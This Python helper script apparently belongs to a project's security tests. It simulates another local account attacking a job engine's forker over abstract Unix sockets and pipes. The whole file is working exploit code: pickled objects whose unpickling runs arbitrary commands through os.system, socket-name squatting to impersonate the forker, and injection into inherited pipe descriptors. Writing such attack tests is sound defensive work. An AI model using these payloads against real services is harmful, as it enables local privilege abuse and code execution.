"""Another account's attacks on a job's engine host forker and host pipes (issue 35, N1/N2),
run as `nobody` with the system Python and the standard library only:

  fork NAME CMD      connect to the forker at abstract NAME and send a FORK request whose
                     payload is a pickle that runs CMD when unpickled, with three fds;
                     prints {"reply": hex or null, "error": str or null}
  squat NAME SECS CMD  bind NAME first and listen SECS seconds; answer every connection
                     with this pid, and write a pickle running CMD into any pipe end it is
                     sent; prints {"received": latin-1 text of every byte, "fds": count}
  pipe FD CMD        write a pickle running CMD, framed as a multiprocessing message,
                     into the inherited socket FD (a host pipe in the wrong hands), then wait
"""
import json
import os
import pickle
import socket
import struct
import sys
import time


class Run:
    """Unpickling this runs the command (pickle stores a call to os.system)."""

    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return os.system, (self.cmd,)


def framed(payload: bytes) -> bytes:
    """A `multiprocessing.connection.Connection` message: a 4-byte big-endian length."""
    return struct.pack("!i", len(payload)) + payload


def fork(name: str, cmd: str) -> None:
    payload = pickle.dumps(Run(cmd))
    out = {"reply": None, "error": None}
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(60)
            sock.connect("\0" + name)
            r, w = os.pipe()
            socket.send_fds(sock, [b"F" + struct.pack("I", len(payload)) + payload],
                            [r, w, 2])
            out["reply"] = sock.recv(8).hex() or None
    except OSError as e:
        out["error"] = f"{type(e).__name__}: {e}"
    print(json.dumps(out), flush=True)


def squat(name: str, seconds: float, cmd: str) -> None:
    received, nfds = b"", 0
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind("\0" + name)
        sock.listen(16)
        sock.settimeout(0.2)
        print(json.dumps({"bound": name}), flush=True)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                conn, _ = sock.accept()
            except socket.timeout:
                continue
            conn.settimeout(1.0)
            try:
                while True:
                    msg, fds, _, _ = socket.recv_fds(conn, 1 << 20, 8)
                    received += msg
                    nfds += len(fds)
                    if fds:   # the host's pipe end: answer through it as the host would
                        os.write(fds[0], framed(pickle.dumps(Run(cmd))))
                    conn.sendall(struct.pack("q", os.getpid()))
                    if not msg:
                        break
            except OSError:
                pass
            finally:
                conn.close()
    print(json.dumps({"received": received.decode("latin-1"), "fds": nfds}), flush=True)


def pipe(fd: int, cmd: str) -> None:
    os.write(fd, framed(pickle.dumps(Run(cmd))))
    print(json.dumps({"written": True}), flush=True)
    time.sleep(60)


if __name__ == "__main__":
    mode, args = sys.argv[1], sys.argv[2:]
    if mode == "fork":
        fork(args[0], args[1])
    elif mode == "squat":
        squat(args[0], float(args[1]), args[2])
    else:
        pipe(int(args[0]), args[1])
